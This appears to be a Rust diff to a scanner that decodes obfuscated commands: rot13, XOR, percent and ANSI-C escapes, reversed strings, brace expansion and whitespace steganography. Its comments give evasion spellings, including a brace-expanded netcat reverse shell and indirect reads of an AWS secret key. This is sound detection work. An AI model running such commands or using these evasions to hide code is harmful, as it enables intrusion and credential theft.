@@ -56,6 +56,27 @@ static REVERSED: LazyLock<Regex> = LazyLock::new(|| regex(REVERSED_PATTERN));
 static MAY_REVERSE: LazyLock<Regex> =
     LazyLock::new(|| regex(&REVERSED_PATTERN.replace(r"\b", r"(?-u:\b)")));
 
+/// hide84: a run of URL-encoded bytes (`unquote('%62%61…')`).
+static PERCENT: LazyLock<Regex> = LazyLock::new(|| regex(r"(?:%[0-9A-Fa-f]{2}){6,}"));
+/// hide84: bash's ANSI-C quoting of escapes (`$'\x63\x75'`), which reads
+/// as the bare word it spells.
+static ANSI_C: LazyLock<Regex> =
+    LazyLock::new(|| regex(r"\$'((?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})+)'"));
+/// hide84: a rot13 decoder's spelling (`tr 'A-Za-z' 'N-ZA-Mn-za-m'`,
+/// `codecs.decode(s, 'rot13')`, `str_rot13(…)`).
+static ROT13: LazyLock<Regex> = LazyLock::new(|| regex(r"(?i)rot_?13|N-ZA-Mn-z"));
+/// hide84: a helper that returns its one argument reversed (`function
+/// r(e){return e.split('').reverse().join('')}`, `def r(s): return
+/// s[::-1]`, `const r = s => s.split('').reverse().join('')`): the
+/// helper's name, its parameter and the name it reverses, per spelling.
+static REVERSER: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(?:function\s+([A-Za-z_$][\w$]*)\s*\(\s*([A-Za-z_$][\w$]*)\s*\)\s*\{\s*return\s+([A-Za-z_$][\w$]*)|def\s+([A-Za-z_]\w*)\s*\(\s*([A-Za-z_]\w*)\s*\)\s*:\s*return\s+([A-Za-z_]\w*)|(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*\(?\s*([A-Za-z_$][\w$]*)\s*\)?\s*=>\s*([A-Za-z_$][\w$]*))\s*(?:\.split\(\s*(?:''|"")\s*\)\.reverse\(\)\.join\(\s*(?:''|"")\s*\)|\[::-1\])"#,
+    )
+});
+/// The most literals a text's reversing helpers are read on.
+const MOST_REVERSED: usize = 64;
+
 const STANDARD: GeneralPurpose = GeneralPurpose::new(
     &base64::alphabet::STANDARD,
     GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
@@ -110,15 +131,38 @@ pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
         let bytes = hex_bytes(&text[found.clone()]);
         out.extend(readable(bytes).map(|d| (lines.of(found.start), d)));
     }
+    // A line with more than one run of escapes (`$'\x63…' -fsSL $'\x68…'`)
+    // is read again with each run decoded in its place.
+    let mut escaped = Vec::new();
     for found in ESCAPES.find_iter(text) {
         let bytes = escape_bytes(found.as_str());
-        out.extend(readable(bytes).map(|d| (lines.of(found.start()), d)));
+        let line = lines.of(found.start());
+        out.extend(readable(bytes).map(|d| (line, d)));
+        escaped.push(line);
     }
+    let mut repeated: Vec<usize> = escaped
+        .windows(2)
+        .filter(|p| p[0] == p[1])
+        .map(|p| p[0])
+        .collect();
+    repeated.dedup();
+    for line in repeated {
+        out.push((line, escapes_in_place(lines.get(line))));
+    }
+    if text.contains('%') {
+        for found in PERCENT.find_iter(text) {
+            let bytes = hex_bytes(&found.as_str().replace('%', ""));
+            out.extend(readable(bytes).map(|d| (lines.of(found.start()), d)));
+        }
+    }
+    out.extend(rot13_literals(text));
+    out.extend(reversed_by_helper(text));
     let codes = CHAR_CODES.is_match(text);
     let reversed = MAY_REVERSE.is_match(text);
     // Read only once a line holds a list of codes: most texts with a
     // code somewhere have none.
     let moves = OnceCell::new();
+    let keys = OnceCell::new();
     for (number, line) in text.lines().enumerate().filter(|_| codes || reversed) {
         if codes && CHAR_CODES.find_iter(line).count() >= 4 {
             let codes: Vec<u32> = NUMBER
@@ -142,6 +186,9 @@ pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
                     .collect();
                 out.extend(readable(text.into_bytes()).map(|d| (number, d)));
             }
+            for key in keys.get_or_init(|| repeating_keys(text)) {
+                out.extend(readable(keyed(line, key)).map(|d| (number, d)));
+            }
         }
         if reversed {
             for found in REVERSED.captures_iter(line) {
@@ -152,6 +199,150 @@ pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
     // Stable: a line's literals stay in the order of their kinds.
     out.sort_by_key(|&(line, _)| line);
     out
+}
+
+/// hide84: a byte XOR-ed with a key repeated over the data (`b ^
+/// K[i % len(K)]`, `c ^ key.charCodeAt(i % key.length)`): the key's name.
+static REPEATING_KEY: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r"\^\s*([A-Za-z_]\w*)\s*\[\s*\w+\s*%\s*(?:len\(\s*\w+\s*\)|\w+\.length)\s*\]|\^\s*([A-Za-z_]\w*)\.charCodeAt\(\s*\w+\s*%\s*\w+\.length\s*\)",
+    )
+});
+/// A key of at most 64 characters given a name as a literal (`K =
+/// b'migplan'`, `const key = "s3cr3t"`).
+static KEY_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(?:^|[\s;(])(?:const\s+|let\s+|var\s+|my\s+)?\$?([A-Za-z_]\w*)\s*=\s*b?(?:'([^'\n]{1,64})'|"([^"\n]{1,64})")"#,
+    )
+});
+static BYTE: LazyLock<Regex> = LazyLock::new(|| regex(r"\b\d{1,3}\b"));
+
+/// The keys a text's repeating-key XOR names ([`REPEATING_KEY`]), as the
+/// bytes of their literals; at most two.
+fn repeating_keys(text: &str) -> Vec<Vec<u8>> {
+    let names: Vec<&str> = REPEATING_KEY
+        .captures_iter(text)
+        .filter_map(|c| c.get(1).or(c.get(2)).map(|m| m.as_str()))
+        .collect();
+    if names.is_empty() {
+        return Vec::new();
+    }
+    let mut keys: Vec<Vec<u8>> = KEY_LITERAL
+        .captures_iter(text)
+        .filter(|c| names.contains(&&c[1]))
+        .filter_map(|c| {
+            c.get(2)
+                .or(c.get(3))
+                .map(|m| m.as_str().as_bytes().to_vec())
+        })
+        .collect();
+    keys.dedup();
+    keys.truncate(2);
+    keys
+}
+
+/// The bytes of `line`'s list of numbers (between its first `[` and the
+/// next `]`, or the whole line) XOR-ed with `key` repeated.
+fn keyed(line: &str, key: &[u8]) -> Vec<u8> {
+    let list = line
+        .split_once('[')
+        .and_then(|(_, rest)| rest.split_once(']'))
+        .map_or(line, |(list, _)| list);
+    BYTE.find_iter(list)
+        .filter_map(|n| n.as_str().parse::<u8>().ok())
+        .zip(key.iter().cycle())
+        .map(|(byte, k)| byte ^ k)
+        .collect()
+}
+
+/// `line` with every run of escapes decoded where it stands, an ANSI-C
+/// quoted one as the bare word it spells.
+fn escapes_in_place(line: &str) -> String {
+    let decoded = |escapes: &str| String::from_utf8_lossy(&escape_bytes(escapes)).into_owned();
+    let bare = ANSI_C.replace_all(line, |c: &Captures| decoded(&c[1]));
+    ESCAPES
+        .replace_all(&bare, |c: &Captures| decoded(&c[0]))
+        .into_owned()
+}
+
+/// The literals of the lines that name a rot13 decoder, rot13 undone.
+fn rot13_literals(text: &str) -> Vec<(usize, String)> {
+    if !ROT13.is_match(text) {
+        return Vec::new();
+    }
+    let mut out = Vec::new();
+    for (number, line) in text.lines().enumerate().filter(|(_, l)| ROT13.is_match(l)) {
+        for literal in LITERAL.captures_iter(line) {
+            let literal = literal.get(1).or(literal.get(2)).map_or("", |m| m.as_str());
+            if literal.len() >= 8 {
+                out.push((number, crate::respell::rot13(literal)));
+            }
+        }
+    }
+    out
+}
+
+/// The literals handed to a helper of the text that returns its argument
+/// reversed ([`REVERSER`]), reversed; at most [`MOST_REVERSED`].
+fn reversed_by_helper(text: &str) -> Vec<(usize, String)> {
+    if !text.contains(".reverse().join(") && !text.contains("[::-1]") {
+        return Vec::new();
+    }
+    let helpers: Vec<String> = REVERSER
+        .captures_iter(text)
+        .filter_map(|c| {
+            let group = |i: usize| c.get(i).map_or("", |m| m.as_str());
+            let first = [1, 4, 7].into_iter().find(|&i| c.get(i).is_some())?;
+            (group(first + 1) == group(first + 2)).then(|| group(first).to_owned())
+        })
+        .collect();
+    let mut out = Vec::new();
+    for (number, line) in text.lines().enumerate() {
+        for helper in &helpers {
+            for (at, _) in line.match_indices(&format!("{helper}(")) {
+                let before = line[..at].chars().next_back();
+                if before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.') {
+                    continue;
+                }
+                let call = &line[at + helper.len() + 1..];
+                if let Some(literal) = LITERAL
+                    .captures(call)
+                    .filter(|c| c.get(0).is_some_and(|m| m.start() == 0))
+                {
+                    let literal = literal.get(1).or(literal.get(2)).map_or("", |m| m.as_str());
+                    out.push((number, literal.chars().rev().collect()));
+                }
+            }
+        }
+        if out.len() >= MOST_REVERSED {
+            break;
+        }
+    }
+    out.truncate(MOST_REVERSED);
+    out
+}
+
+/// hide84: the bits a text keeps in its lines' trailing whitespace, a tab
+/// a one and a space a zero, eight to a byte, read as text when they are
+/// (at most 4 KB of bits): whitespace steganography's payload.
+pub fn trailing_bits(text: &str) -> Option<String> {
+    let bits: Vec<bool> = text
+        .lines()
+        .flat_map(|line| {
+            let kept = line.trim_end_matches([' ', '\t']).len();
+            let trailing = if kept == 0 { "" } else { &line[kept..] };
+            trailing.bytes().map(|b| b == b'\t')
+        })
+        .take(4096 * 8)
+        .collect();
+    let bytes = bits
+        .chunks_exact(8)
+        .map(|byte| {
+            byte.iter()
+                .fold(0u8, |acc, &bit| (acc << 1) | u8::from(bit))
+        })
+        .collect();
+    readable(bytes)
 }
 
 /// One token of prose decoded from base64 or hex, when it reads as text
@@ -294,18 +485,6 @@ static PS_FORMAT: LazyLock<Regex> = LazyLock::new(|| {
         r#"['"]((?:[^'"{}\n]|\{\d\})*)['"]\s*-[fF]\s+((?:'[^'\n]*'|"[^"\n]*")(?:\s*,\s*(?:'[^'\n]*'|"[^"\n]*"))*)"#,
     )
 });
-/// code84 (code83's open miss): a list held in a name and joined with no
-/// separator where it is used (`const steps = ['cu', 'rl -s', …];` …
-/// `steps.join('')`, Python's `''.join(parts)`): the pieces of a command
-/// spread over two lines. The name's list is read from its assignment
-/// ([`LIST_ASSIGNMENT`]).
-static NAMED_JOIN: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r#"([A-Za-z_$][\w$]*)\.join\(\s*(?:''|"")\s*\)|(?:''|"")\.join\(\s*([A-Za-z_]\w*)\s*\)"#)
-});
-/// A name given a list of one line (`const steps = […]`, `parts = […]`).
-static LIST_ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
-    regex(r"(?m)(?:^|[;{])\s*(?:(?:const|let|var)\s+)?([A-Za-z_$][\w$]*)\s*=\s*\[([^\]\n]*)\]")
-});
 static JOIN_JS: LazyLock<Regex> =
     LazyLock::new(|| regex(r#"\[([^\]\n]*)\]\.join\(\s*(?:['"]([^'"\n]*)['"])?\s*\)"#));
 /// Rust's `[…].concat()` and Go's `strings.Join([]string{…}, sep)`.
@@ -331,6 +510,25 @@ static SEP: LazyLock<Regex> =
 static EXPRESSION: LazyLock<Regex> = LazyLock::new(|| {
     regex(r"^\s*([A-Za-z_]\w*)\s*(?:<-|\s[A-Za-z_]\w*(?:\(\d+\))?\s*:=)\s*([^;\n]+)")
 });
+/// hide84: a list given a name on its own line (`const parts = ['cu',
+/// 'rl'];`, `parts = [...]`): its items.
+static LIST: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r"(?m)^\s*(?:(?:const|let|var|my)\s+)?([A-Za-z_]\w*)\s*=\s*\[([^\]\n]*)\]\s*;?\s*$")
+});
+/// hide84: a named list joined: JavaScript's `name.join(sep)` (groups 1-3),
+/// Python's `sep.join(name)` (groups 4-6).
+static NAMED_JOIN: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"\b([A-Za-z_]\w*)\.join\(\s*(?:'([^'\n]*)'|"([^"\n]*)")?\s*\)|(?:'([^'\n]*)'|"([^"\n]*)")\.join\(\s*([A-Za-z_]\w*)\s*\)"#,
+    )
+});
+/// hide84: bash's brace expansion spelling a command (`{nc,-e,/bin/sh,h,4444}`
+/// runs `nc -e /bin/sh h 4444`), the command's word first.
+static BRACE_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r"(^|[\s;&|(`])\{((?:nc|ncat|netcat|curl|wget|bash|sh|python3?|perl|php|rm|cat|chmod),[^{}\s]*)\}",
+    )
+});
 static LITERAL: LazyLock<Regex> = LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)""#));
 static QUOTE_SPLIT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(\w)(?:''|""|\$@|\\)([a-z])"#));
 static QUOTED_LETTERS: LazyLock<Regex> = LazyLock::new(|| regex(r"(\w)'(\w{1,3})'(\w)"));
@@ -354,14 +552,16 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     let values = || values.get_or_init(|| assignments(&folded(whole), calls));
     let shown = INDIRECT.replace_all(&shown, |c: &Captures| {
         let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
-        let target = values().get(name).and_then(|name| values().get(name));
-        target.cloned().unwrap_or_else(|| c[0].to_owned())
+        // A name that holds a variable's name with no value in the file
+        // reads as that variable (`${!k}` with `k=AWS_SECRET_ACCESS_KEY`).
+        let target = values().get(name).map(|target| {
+            values()
+                .get(target)
+                .cloned()
+                .unwrap_or(format!("${target}"))
+        });
+        target.unwrap_or_else(|| c[0].to_owned())
     });
-    let shown = if shown.contains(".join(") {
-        Cow::Owned(named_joins(&shown, whole, values).into_owned())
-    } else {
-        shown
-    };
     let shown = JOIN_PY.replace_all(&shown, |c: &Captures| {
         let items = match c.get(4).map(|m| m.as_str()) {
             Some("-1") => reversed_items(&c[3]),
@@ -382,6 +582,18 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     let shown = JOIN_JS.replace_all(&shown, |c: &Captures| {
         joined_list(&c[1], c.get(2).map_or(",", |m| m.as_str()), values())
     });
+    let shown = if shown.contains(".join(") {
+        Cow::Owned(named_joins(&shown, whole, values()))
+    } else {
+        shown
+    };
+    let shown = if shown.contains('{') {
+        BRACE_COMMAND.replace_all(&shown, |c: &Captures| {
+            format!("{}{}", &c[1], c[2].replace(',', " "))
+        })
+    } else {
+        shown
+    };
     let shown = CONCAT_RS.replace_all(&shown, |c: &Captures| joined_list(&c[1], "", values()));
     let shown = JOIN_GO.replace_all(&shown, |c: &Captures| joined_list(&c[1], &c[2], values()));
     let substituted = SHELL_VAR.replace_all(&shown, |c: &Captures| {
@@ -420,32 +632,29 @@ pub fn normalize_with(text: &str, whole: &str) -> String {
     text
 }
 
-/// `text` with each list joined through its name ([`NAMED_JOIN`]) rebuilt
-/// from the list `whole` gives that name; a name given none stays.
-fn named_joins<'a, 'v>(
-    text: &'a str,
-    whole: &str,
-    values: impl Fn() -> &'v HashMap<String, String>,
-) -> Cow<'a, str> {
-    let lists: OnceCell<HashMap<&str, &str>> = OnceCell::new();
-    NAMED_JOIN.replace_all(text, |c: &Captures| {
-        let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
-        let lists = lists.get_or_init(|| {
-            LIST_ASSIGNMENT
-                .captures_iter(whole)
-                .map(|l| {
-                    (
-                        l.get(1).map_or("", |m| m.as_str()),
-                        l.get(2).map_or("", |m| m.as_str()),
-                    )
-                })
-                .collect()
-        });
-        match lists.get(name) {
-            Some(items) => joined_list(items, "", values()),
-            None => c[0].to_owned(),
-        }
-    })
+/// `text` with each named list that `whole` gives its items joined where
+/// it is joined ([`NAMED_JOIN`], [`LIST`]); other joins stay.
+fn named_joins(text: &str, whole: &str, values: &HashMap<String, String>) -> String {
+    let lists: HashMap<&str, &str> = LIST
+        .captures_iter(whole)
+        .filter_map(|c| Some((c.get(1)?.as_str(), c.get(2)?.as_str())))
+        .collect();
+    NAMED_JOIN
+        .replace_all(text, |c: &Captures| {
+            let group = |i: usize| c.get(i).map(|m| m.as_str());
+            let (name, separator) = match group(1) {
+                Some(name) => (name, group(2).or(group(3)).unwrap_or(",")),
+                None => (
+                    group(6).unwrap_or_default(),
+                    group(4).or(group(5)).unwrap_or_default(),
+                ),
+            };
+            lists.get(name).map_or_else(
+                || c[0].to_owned(),
+                |items| joined_list(items, separator, values),
+            )
+        })
+        .into_owned()
 }
 
 /// A list's items in reverse order (`[a, b][::-1]` is `[b, a]`).
@@ -598,7 +807,7 @@ fn assignments(whole: &str, expressions: bool) -> HashMap<String, String> {
     // In file order: a batch file's `set h=%h%.com` grows what it had.
     let mut values: HashMap<String, String> = HashMap::new();
     for c in ASSIGNMENT.captures_iter(whole) {
-        let value = value(&c, 2);
+        let value = value(&c, 2) + &adjacent_pieces(&whole[c.get(0).map_or(0, |m| m.end())..]);
         let value = if value.contains('%') {
             batch_expanded(&value, &values)
         } else {
@@ -650,7 +859,41 @@ fn assignments(whole: &str, expressions: bool) -> HashMap<String, String> {
             values.insert(c[1].to_owned(), text);
         }
     }
+    // hide84: a value built of other variables (`c="${a}${b}"`) reads
+    // with theirs, one level deep.
+    if values.values().any(|v| v.contains('$')) {
+        let given = values.clone();
+        for value in values.values_mut().filter(|v| v.contains('$')) {
+            *value = SHELL_VAR
+                .replace_all(value, |c: &Captures| {
+                    let name = (1..5).find_map(|i| c.get(i)).map_or("", |m| m.as_str());
+                    given.get(name).cloned().unwrap_or_else(|| c[0].to_owned())
+                })
+                .into_owned();
+        }
+    }
     values
+}
+
+/// The quoted pieces written right after an assignment's value (`"rl"`
+/// of `w="cu""rl"`): one word to the shell. A "piece" that opens with a
+/// space or runs over a line is the gap after a quoted assignment's own
+/// closing quote (`set "b=sh"` then the next line), not a piece.
+fn adjacent_pieces(rest: &str) -> String {
+    let mut out = String::new();
+    let mut rest = rest;
+    while let Some(quote) = rest.chars().next().filter(|c| matches!(c, '\'' | '"')) {
+        let Some(close) = rest[1..].find(quote) else {
+            break;
+        };
+        let piece = &rest[1..1 + close];
+        if piece.contains('\n') || piece.starts_with(char::is_whitespace) {
+            break;
+        }
+        out.push_str(piece);
+        rest = &rest[close + 2..];
+    }
+    out
 }
 
 /// `text` with each tight `.` join ([`DOT_OPERAND`]) spaced out.
@@ -705,6 +948,13 @@ fn joined_list(items: &str, separator: &str, values: &HashMap<String, String>) -
             let part = part.trim();
             if let Some(value) = values.get(part) {
                 return value.clone();
+            }
+            // The user's home, however the language asks for it
+            // (`process.env.HOME`, `os.homedir()`, `Path.home()`).
+            if !part.starts_with(['\'', '"'])
+                && (part.contains("HOME") || part.contains("homedir()") || part.ends_with("home()"))
+            {
+                return "~".to_owned();
             }
             LITERAL
                 .captures_iter(part)
